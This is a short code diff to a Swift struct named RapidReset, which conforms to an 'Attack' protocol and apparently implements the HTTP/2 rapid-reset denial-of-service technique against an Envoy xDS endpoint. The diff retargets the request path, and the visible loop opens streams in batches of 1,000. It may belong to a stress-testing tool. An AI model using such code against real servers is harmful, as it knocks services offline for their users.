@@ -1,3 +1,4 @@
+import XDS
 import EnvoyAPI
 import NIOCore
 
@@ -28,7 +29,7 @@ struct RapidReset: Attack {
     }
 
     private func reset(_ connection: RawConnection, _ count: Shared<Int>) async throws {
-        let call = HeaderBlock(callOf: Method.deltaEndpoints.path, isTLS: isTLS).bytes
+        let call = HeaderBlock(callOf: Method.of(.clusterLoadAssignment, .delta).path, isTLS: isTLS).bytes
         let batch = 1_000
         var stream: UInt32 = 1
         while !Task.isCancelled, stream < 0x7fff_0000 {
